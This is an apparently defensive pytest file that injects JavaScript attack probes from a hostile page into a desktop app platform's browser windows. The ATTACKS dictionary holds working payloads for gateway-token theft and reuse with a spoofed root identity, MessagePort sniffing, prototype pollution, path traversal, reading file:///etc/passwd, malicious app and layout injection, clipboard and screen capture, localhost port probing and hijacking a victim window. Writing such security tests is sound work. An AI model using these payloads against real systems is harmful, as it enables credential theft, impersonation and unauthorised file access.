import asyncio, json, os, time
from pathlib import Path
import pytest
from tests.windows.desk import DeskOfTests
from tests.windows.pages import Pages, page
from tests.windows.test_hostile_workers import PAGES, APPS, SETTINGS
from tests.windows.test_hostile_pages import start_on_other_site, refused
from rostrum.desktop.hosts.reports import HostLost
pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.long]

J = "(async () => { try { return JSON.stringify(await (async () => { %s })()) ?? 'undefined'; } catch (e) { return 'ERR ' + (e?.message ?? JSON.stringify(e)); } })()"
ATTACKS = {
 "methods": "return io.interop.methods().map((m) => m.name).sort()",
 "globals": "return Object.getOwnPropertyNames(window).filter((n) => /qt|rostrum|glue|iodesk|bridge|channel/i.test(n))",
 "bridge-event": """const ev = new MessageEvent('rostrum-bridge', {ports: [new MessageChannel().port1], cancelable: true}); return document.dispatchEvent(ev)""",
 "bridge-prompt": "return [prompt === window.prompt, typeof qt]",
 "port-steal": """const seen = []; const orig = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (m) { seen.push(JSON.stringify(m).slice(0, 200)); return orig.apply(this, arguments); };
   const f = document.createElement('iframe'); f.src = location.href; document.body.append(f); await new Promise((d) => setTimeout(d, 800)); await iodesktop.getGWToken().then((t) => seen.push('token ' + typeof t), (e) => seen.push('E' + e.message)); return seen.slice(0, 8)""",
 "token": "const t = await iodesktop.getGWToken(); return [typeof t, t && JSON.parse(atob(t.split('.')[1] || 'bnVsbA==') )]",
 "token-reuse": """const t = await iodesktop.getGWToken(); const ws = new WebSocket(iodesktop.gwURL); await new Promise((d, f) => { ws.onopen = d; ws.onerror = f; });
    const got = []; ws.onmessage = (e) => got.push(e.data.slice(0, 300)); ws.send(JSON.stringify({domain: 'global', type: 'hello', request_id: '1', identity: {application: 'victim', instance: 'x', windowId: 'w', user: 'root'}, authentication: {method: 'gateway-token', token: t}})); await new Promise((d) => setTimeout(d, 600)); return got.slice(0, 2)""",
 "ws-secret": """const ws = new WebSocket(iodesktop.gwURL); await new Promise((d, f) => { ws.onopen = d; ws.onerror = f; }); const got = []; ws.onmessage = (e) => got.push(e.data.slice(0, 300)); ws.send(JSON.stringify({domain: 'global', type: 'hello', request_id: '1', identity: {application: 'victim'}, authentication: {method: 'secret', login: 'root', secret: ''}})); await new Promise((d) => setTimeout(d, 600)); return got""",
 "create-data": "return [await io.windows.open('a1', 'data:text/html,<script>1</script>').then((w) => w.id, (e) => 'E ' + e.message), await io.windows.open('a2', 'javascript:alert(1)').then((w) => w.id, (e) => 'E ' + e.message), await io.windows.open('a3', 'blob:' + location.origin + '/x').then((w) => w.id, (e) => 'E ' + e.message), await io.windows.open('a4', 'view-source:http://127.0.0.1').then((w) => w.id, (e) => 'E ' + e.message), await io.windows.open('a5', 'rostrum-page://launcher').then((w) => w.id, (e) => 'E ' + e.message), await io.windows.open('a6', 'chrome://version').then((w) => w.id, (e) => 'E ' + e.message)]",
 "own-page-frame": "const out = []; for (const u of ['rostrum-page://launcher/', 'rostrum-page:/launcher.html', 'chrome://version', 'devtools://devtools/bundled/inspector.html', 'file:///etc/passwd', 'qrc:/qtwebchannel/qwebchannel.js']) { const f = document.createElement('iframe'); f.src = u; document.body.append(f); await new Promise((d) => setTimeout(d, 250)); try { out.push(u + ' ' + (f.contentDocument ? f.contentDocument.body.innerText.slice(0, 50) : 'x')) } catch (e) { out.push(u + ' ' + e.name); } } for (const u of ['rostrum-page://launcher/', 'qrc:/qtwebchannel/qwebchannel.js', 'file:///etc/passwd']) { out.push(await fetch(u).then((r) => r.text().then((t) => u + t.slice(0, 60)), (e) => u + ' ' + e.message)); } return out",
 "navigate-own-page": "location.href = 'rostrum-page://launcher/'; await new Promise((d) => setTimeout(d, 700)); return location.href",
 "open-own-page": "const w = open('rostrum-page://launcher/'); await new Promise((d) => setTimeout(d, 700)); return [!!w, w && w.closed]",
 "appman-add": """const out = {}; for (const [n, d] of Object.entries({
     exe: {type: 'exe', details: {path: '/bin', command: 'true'}}, node: {type: 'node', details: {path: '/tmp/x.js'}}, script: {type: 'remote-script', details: {url: location.href}}, ws: {type: 'workspaces', details: {url: location.href}}, WINDOW: {type: 'Window', details: {url: location.href, preloadScripts: ['x']}},
     proto: JSON.parse('{"type": "window", "__proto__": {"allowCapture": true}, "details": {"url": "http://127.0.0.1"}}'), shortcut: {type: 'window', shortcut: 'ctrl+alt+a', details: {url: location.href}}, autostart: {type: 'window', autoStart: true, details: {url: location.href}}, file: {type: 'window', details: {url: 'file:///etc/passwd'}}, icon: {type: 'window', icon: '/etc/passwd', details: {url: location.href}}, service: {type: 'window', service: true, details: {url: location.href, hidden: true}}, intents: {type: 'window', intents: [{name: 'Pay'}], details: {url: location.href}}, dots: {name: '../x', type: 'window', details: {url: location.href}}, intercept: {type: 'window', details: {url: location.href, security: {allowPopups: true}}}, title: {type: 'window', title: 'Victim\\u202e\\u0000', details: {url: location.href}}, sso: {type: 'window', details: {url: location.href, ssoAuth: true}}, unc: {type: 'window', details: {url: '\\\\\\\\127.0.0.2\\\\x'}} })) { out[n] = await io.appManager.inMemory.import([{name: 'x-' + n, ...d}], 'merge').then((r) => (r.errors && r.errors.length ? 'E ' + JSON.stringify(r.errors).slice(0, 160) : 'OK'), (e) => 'E ' + e.message.slice(0, 160)); }
     out.exported = (await io.appManager.inMemory.export()).map((d) => JSON.stringify(d).slice(0, 200)); return out""",
 "protocols": "const out = []; for (const u of ['mailto:x', 'myapp://app/clock', 'ms-settings:', 'file:///bin/true', 'ssh://x']) { const a = document.createElement('a'); a.href = u; document.body.append(a); a.click(); open(u); const f = document.createElement('iframe'); f.src = u; document.body.append(f); } await new Promise((d) => setTimeout(d, 500)); try { navigator.registerProtocolHandler('web+x', location.origin + '/?%s'); out.push('reg'); } catch (e) { out.push(e.message); } return [out, location.href]",
 "permissions": "const out = []; for (const n of ['geolocation', 'camera', 'microphone', 'notifications', 'clipboard-read', 'local-fonts', 'midi', 'storage-access', 'window-management']) { out.push(n + ' ' + await navigator.permissions.query({name: n}).then((s) => s.state, (e) => e.message.slice(0, 40))); } out.push(await navigator.clipboard.readText().then((t) => 'READ ' + t, (e) => e.message.slice(0, 60))); out.push(await navigator.mediaDevices?.getDisplayMedia({video: true}).then(() => 'SCREEN', (e) => e.message.slice(0, 60))); return out",
 "files-api": "const out = []; out.push(await (window.showOpenFilePicker ? Promise.race([showOpenFilePicker().then(() => 'PICKED', (e) => e.message), new Promise((d) => setTimeout(() => d('waiting'), 700))]) : 'none')); return out",
 "loopback": "const out = []; for (const port of [22, 80, new URL(iodesktop.gwURL).port]) { out.push(port + ' ' + await fetch('http://127.0.0.1:' + port + '/', {mode: 'no-cors'}).then((r) => 'answered ' + r.type, (e) => e.message)); } return out",
 "devport": "return performance.getEntriesByType('navigation').length",
 "prefs-proto": "await io.prefs.setFor('__proto__', {a: 1}).catch(() => 0); await io.prefs.setFor('../../x', {a: 1}).catch((e) => e.message); await io.prefs.setFor('victim', {stolen: 1}); return await io.prefs.get('victim').then((p) => p.data)",
 "layout-inject": "return await io.layouts.import([{name: '../../evil', type: 'Global', components: [{type: 'application', componentType: 'application', application: 'x', state: {name: 'pwn', url: 'file:///etc/passwd', details: {command: '/bin/true'}}}]}], 'merge').then(() => io.layouts.restore({name: '../../evil', type: 'Global'})).then(() => 'restored', (e) => 'E ' + (e.message ?? JSON.stringify(e)).slice(0, 300))",
 "layout-url": "return await io.layouts.import([{name: 'evil2', type: 'Global', components: [{type: 'window', componentType: 'application', application: 'victim', state: {name: 'victim', url: location.href, bounds: {left: 1, top: 1, width: 300, height: 300}, context: {stolen: 1}, details: {preloadScripts: [location.origin + '/x.js'], url: location.href}}}]}], 'merge').then(() => io.layouts.restore({name: 'evil2', type: 'Global', closeRunningInstance: false})).then(() => 'restored', (e) => 'E ' + (e.message ?? JSON.stringify(e)).slice(0, 300))",
 "context-of-victim": "const v = io.windows.list().find((w) => w.name === 'victim' || w.title === 'victim' || w.title === 'Victim'); if (!v) return 'none'; return [await v.updateContext({x: 1}).then(() => 'ctx', (e) => e.message), await v.setTitle('Rostrum security').then(() => 'TITLE', (e) => e.message), await v.addButton?.({buttonId: 'b', tooltip: 'x', order: 1, imageBase64: 'AAAA'}).then(() => 'BUTTON', (e) => e.message), await v.setUrl?.(location.href), await v.capture?.().then((s) => 'CAPTURED ' + s.length, (e) => e.message), await v.executeCode?.('1').then(() => 'CODE', (e) => e.message)]",
 "lifecycle": "return [await io.appManager.application('victim').start({}, {}).then((i) => 'started', (e) => e.message), await io.appManager.restart?.().then(() => 'R', (e) => e.message)]",
 "exit": "return await Promise.race([io.appManager.exit().then(() => 'EXIT', (e) => e.message), new Promise((d) => setTimeout(() => d('pending'), 1500))])",
}
WHICH = os.environ.get("WHICH", "").split(",") if os.environ.get("WHICH") else list(ATTACKS)

@pytest.mark.parametrize("kind", WHICH)
async def test_probe(desk: DeskOfTests, evil: Pages, kind) -> None:
    await desk.loaded("victim")
    await start_on_other_site(desk, evil)
    async with desk.cdp.page("/evil") as inside:
        await inside.until("!!window.io")
        try:
            async with asyncio.timeout(20):
                print("ATTACK", kind, "=>", str(await inside.evaluate(J % ATTACKS[kind]))[:2500], flush=True)
        except BaseException as e:
            print("ATTACK", kind, "EXC", repr(e)[:300], flush=True)
    print("   lost" if [1 for one in desk.reported if isinstance(one, HostLost)] else "   ok", [(w.id[:6], w.app, w.url[:80], w.title[:30]) for w in desk.platform.services.windows.registry.all][:8], flush=True)
